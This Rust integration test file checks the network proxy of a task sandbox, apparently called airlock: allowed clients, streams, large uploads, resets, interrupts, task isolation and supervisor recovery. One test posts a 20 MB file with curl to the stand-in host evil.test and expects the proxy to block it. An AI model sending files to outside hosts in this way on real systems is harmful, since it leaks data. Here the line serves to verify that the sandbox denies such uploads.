//! What is allowed works: every kind of client, streams, several tasks, a supervisor that is killed.

use std::fs;
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::sync::Mutex;
use std::sync::mpsc::channel;

use nix::sys::signal::Signal;
use tests::server::{ok, request};
use tests::{Role, Server, TestEnv, until};

#[test]
fn every_kind_of_client_reaches_what_is_allowed() {
    let env = TestEnv::new();
    let repo = env.repository();
    let bare = env.path().join("served.git");
    repo.git(&["clone", "-q", "--bare", ".", bare.to_str().unwrap()]);
    env.program("git", &bare)
        .arg("update-server-info")
        .run()
        .exits(0);
    let server = Server::http(move |request| {
        let path = request.split(' ').nth(1).unwrap_or_default();
        match path.strip_prefix("/served.git/") {
            Some(inner) => match fs::read(bare.join(inner.split('?').next().unwrap())) {
                Ok(bytes) => ok(bytes),
                Err(_) => b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n".to_vec(),
            },
            None => ok(format!("reached by {}\n", path.trim_start_matches('/'))),
        }
    });
    let url = format!("http://localhost:{}", server.port());
    let through = "--noproxy '' -x http://127.0.0.1:808";
    let script = format!(
        "curl -sS {url}/name; curl -sS {through} {url}/plain; curl -sS -p {through} {url}/tunnel; \
         curl -sS --noproxy '' --socks5-hostname 127.0.0.1:808 {url}/socks; curl -sS {through} -d body {url}/post; \
         curl -sS {through} -H 'Transfer-Encoding: chunked' -d chunks {url}/chunked; curl -sS {through} {url}/one {url}/two; \
         python3 -c 'import urllib.request as r; print(r.urlopen(\"{url}/python\").read().decode(), end=\"\")'; \
         python3 -c 'import urllib.request as r; o = r.build_opener(r.ProxyHandler({{\"http\": \"http://127.0.0.1:808\"}})); \
         print(o.open(\"{url}/opener\").read().decode(), end=\"\")' ; \
         node -e 'fetch(\"{url}/node\").then(r => r.text()).then(t => process.stdout.write(t))'; \
         git clone -q {url}/served.git /tmp/cloned && git -C /tmp/cloned log --format=cloned:%s"
    );
    let net = format!("allow:localhost:{}", server.port());
    repo.task(&["--task", "t1", "--net", &net], &script)
        .exits(11);
    let log = repo.log_of("t1");
    for way in [
        "name", "plain", "tunnel", "socks", "post", "chunked", "one", "two", "python", "opener",
        "node",
    ] {
        assert!(
            log.contains(&format!("reached by {way}\n")),
            "{way}:\n{log}"
        );
    }
    assert!(log.contains("cloned:base"), "{log}");
    let told = server.told();
    let with = |text: &str| told.iter().filter(|request| request.contains(text)).count();
    assert_eq!(
        (with("\r\n\r\nbody"), with("6\r\nchunks\r\n0\r\n\r\n")),
        (1, 1),
        "{told:#?}"
    );
    assert!(crate::net::denials(&env, "t1").is_empty());
    let shown = repo.show("t1");
    assert_eq!(shown["isolation"]["net"], net.as_str());
}

#[test]
fn a_stream_comes_as_it_is_written() {
    let env = TestEnv::new();
    let repo = env.repository();
    let (go, gone) = channel();
    let gone = Mutex::new(gone);
    let server = Server::new(move |mut client, _| {
        request(&mut client);
        let head = "HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\ndata: one\n\n";
        client.write_all(head.as_bytes()).unwrap();
        // The second event is not written before the first one has been seen inside.
        gone.lock().unwrap().recv().unwrap();
        client.write_all(b"data: two\n\n").unwrap();
    });
    let net = format!("allow:localhost:{}", server.port());
    let script = format!(
        "curl -sSN http://localhost:{}/ | while read -r line; do echo \"$line\"; test \"$line\" = 'data: one' && touch here; done; true",
        server.port()
    );
    let running = repo
        .airlock(&[
            "run", "--json", "--task", "t1", "--net", &net, "--", "sh", "-c", &script,
        ])
        .spawn();
    env.at_work("t1");
    go.send(()).unwrap();
    running.wait().exits(0);
    assert_eq!(repo.log_of("t1"), "data: one\n\ndata: two\n\n");
}

#[test]
fn large_bodies_arrive_whole_and_many_connections_wait_their_turn() {
    let env = TestEnv::new();
    let repo = env.repository();
    let server = Server::http(|request| match request.split_once("\r\n\r\n") {
        Some((_, body)) if body.len() > 1000 => ok(body.as_bytes()),
        _ => ok("reached\n"),
    });
    let url = format!("http://localhost:{}", server.port());
    let script = format!(
        r#"head -c 20000000 /dev/zero | tr '\0' x > /tmp/large
for way in "--noproxy *" "--noproxy '' -x http://127.0.0.1:808" "--noproxy '' -p -x http://127.0.0.1:808"; do
    eval curl -sS $way --data-binary @/tmp/large {url}/ | cmp - /tmp/large && echo same; done
curl -sS -o /dev/null -w '%{{http_code}}\n' --noproxy '' -x http://127.0.0.1:808 --data-binary @/tmp/large http://evil.test/
python3 -c '
import socket, threading
opened = [socket.create_connection(("127.0.0.1", 808), 60) for _ in range(200)]
for s in opened: s.sendall(b"GET {url}/ HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n")
answers = [b"".join(iter(lambda: s.recv(4096), b"")) for s in opened]
print(sum(answer.endswith(b"reached\n") for answer in answers))
'"#,
        port = server.port()
    );
    let net = format!("allow:localhost:{}", server.port());
    repo.task(&["--task", "t1", "--net", &net], &script)
        .exits(11);
    assert_eq!(repo.log_of("t1"), "same\nsame\nsame\n403\n200\n");
}

#[test]
fn a_server_that_breaks_off_is_seen_to_do_so() {
    let env = TestEnv::new();
    let repo = env.repository();
    let server = Server::new(|mut client, _| {
        // Closed with something unread, a connection is reset.
        client.read_exact(&mut [0]).unwrap();
    });
    let net = format!("allow:localhost:{}", server.port());
    let url = format!("http://localhost:{}/", server.port());
    let script = format!(
        "for way in '--noproxy localhost' '--noproxy none -x http://127.0.0.1:808' '--noproxy none -p -x http://127.0.0.1:808'; do \
         curl -sS -o /dev/null -w '%{{http_code}}\n' $way {url} 2>/dev/null; done; true"
    );
    repo.task(&["--task", "t1", "--net", &net], &script)
        .exits(11);
    assert_eq!(repo.log_of("t1"), "000\n502\n000\n");
}

#[test]
fn an_interrupt_ends_the_network_with_the_task() {
    let env = TestEnv::new();
    let repo = env.repository();
    let server = Server::new(|mut client, teller| {
        teller.send(request(&mut client)).unwrap();
        // Held until the other end goes.
        teller.send(request(&mut client)).unwrap();
    });
    let net = format!("allow:localhost:{}", server.port());
    let script = format!("touch here; curl -sS http://localhost:{}/", server.port());
    let running = repo
        .airlock(&[
            "run", "--json", "--task", "t1", "--net", &net, "--", "sh", "-c", &script,
        ])
        .spawn();
    env.at_work("t1");
    let mut told = Vec::new();
    until("a request", || {
        told.extend(server.told());
        (!told.is_empty()).then_some(())
    });
    running.signal(Signal::SIGINT);
    running.wait().exits(130);
    until("the end of its connection", || {
        told.extend(server.told());
        (told.len() == 2).then_some(())
    });
    env.is_quiet();
}

#[test]
fn tasks_have_the_same_ports_and_do_not_meet() {
    let env = TestEnv::new();
    let repo = env.repository();
    let script = "python3 -c '
import http.server, os, threading, time, urllib.request
open(\"index.html\", \"w\").write(os.environ[\"AIRLOCK_TASK\"])
server = http.server.ThreadingHTTPServer((\"0.0.0.0\", 8000), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=server.serve_forever, daemon=True).start()
open(\"here\", \"w\").close()
while not os.path.exists(\"go\"): time.sleep(0.01)
print(\"mine:\", urllib.request.urlopen(\"http://localhost:8000/\").read().decode(), flush=True)
print(sorted(os.listdir(\"/run/airlock/proxy\")) if os.path.exists(\"/run/airlock/proxy\") else \"no proxy\", flush=True)
os._exit(0)
' 2>/dev/null";
    let start = |id: &str, net: &str| {
        repo.airlock(&[
            "run", "--json", "--task", id, "--net", net, "--", "sh", "-c", script,
        ])
        .spawn()
    };
    let tasks = [
        ("t1", "none"),
        ("t2", "none"),
        ("t3", "allow:a.test"),
        ("t4", "allow:a.test"),
    ];
    let running: Vec<_> = tasks.iter().map(|(id, net)| start(id, net)).collect();
    for (id, _) in tasks {
        env.at_work(id);
    }
    for (id, _) in tasks {
        env.let_go(id);
    }
    for running in running {
        running.wait().exits(0);
    }
    for (id, net) in tasks {
        let seen = if net == "none" {
            "no proxy"
        } else {
            "['socket']"
        };
        assert_eq!(repo.log_of(id), format!("mine: {id}\n{seen}\n"));
    }
}

#[test]
fn a_supervisor_that_was_killed_is_only_a_pause() {
    let env = TestEnv::new();
    let repo = env.repository();
    let server = Server::http(|_| ok("reached\n"));
    let net = format!("allow:localhost:{}", server.port());
    let script = format!(
        "curl -sS http://localhost:{0}/; touch here; while ! test -e go; do :; done; curl -sS http://localhost:{0}/; rm here go",
        server.port()
    );
    let running = repo
        .airlock(&[
            "run", "--json", "--task", "t1", "--net", &net, "--", "sh", "-c", &script,
        ])
        .spawn();
    env.at_work("t1");
    for process in env.of_role(Role::Supervisor) {
        process.kill();
    }
    drop(running.wait());
    env.let_go("t1");
    until("a client that waits for its proxy", || {
        env.processes()
            .into_iter()
            .find(|process| process.command.contains("curl -sS"))
    });
    repo.airlock(&["resume", "t1"]).run().exits(11);
    assert_eq!(repo.log_of("t1"), "reached\nreached\n");
    assert_eq!(server.told().len(), 2);
}

#[test]
fn a_protocol_in_which_the_server_speaks_first_works_where_host_and_port_are_named() {
    let env = TestEnv::new();
    let repo = env.repository();
    let server = Server::new(|client, teller| {
        let mut writing = client.try_clone().unwrap();
        writing.write_all(b"welcome\n").unwrap();
        let mut line = String::new();
        BufReader::new(client).read_line(&mut line).unwrap();
        teller.send(line).unwrap();
        writing.write_all(b"goodbye\n").unwrap();
    });
    let net = format!("allow:db.localhost:{}", server.port());
    let script = format!(
        "python3 -c '
import socket
s = socket.create_connection((\"db.localhost\", {}))
f = s.makefile()
print(f.readline(), end=\"\")
s.sendall(b\"hello\\n\"); s.shutdown(socket.SHUT_WR)
print(f.read(), end=\"\")'",
        server.port()
    );
    repo.task(&["--task", "t1", "--net", &net], &script)
        .exits(11);
    assert_eq!(repo.log_of("t1"), "welcome\ngoodbye\n");
    assert_eq!(server.told(), ["hello\n"]);
}
